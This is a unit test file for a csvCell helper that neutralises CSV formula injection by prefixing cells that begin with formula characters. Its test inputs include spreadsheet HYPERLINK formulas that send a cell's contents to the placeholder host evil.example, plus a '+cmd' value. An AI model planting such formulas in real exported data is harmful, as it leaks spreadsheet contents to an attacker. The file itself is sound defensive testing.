import { csvCell } from '../csv';

describe('csvCell', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&B3,\n"Open")',
    '=HYPERLINK("https://evil.example/?"&B3,\r\n"Open")',
    '+cmd\n',
    '-2+3',
    '@SUM(A1)\nmore',
    '\t=1+1',
    '\r=1+1',
  ])('neutralises %j, whatever follows the first character', (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  it.each(['Fresh beans = better mornings', 'a@b.example', 'line one\n=not first', ' =1+1', ''])(
    'leaves %j as it is',
    (text) => {
      expect(csvCell(text)).toBe(text);
    },
  );

  it('leaves numbers and empty cells alone', () => {
    expect(csvCell(-5)).toBe(-5);
    expect(csvCell(null)).toBe(null);
  });
});
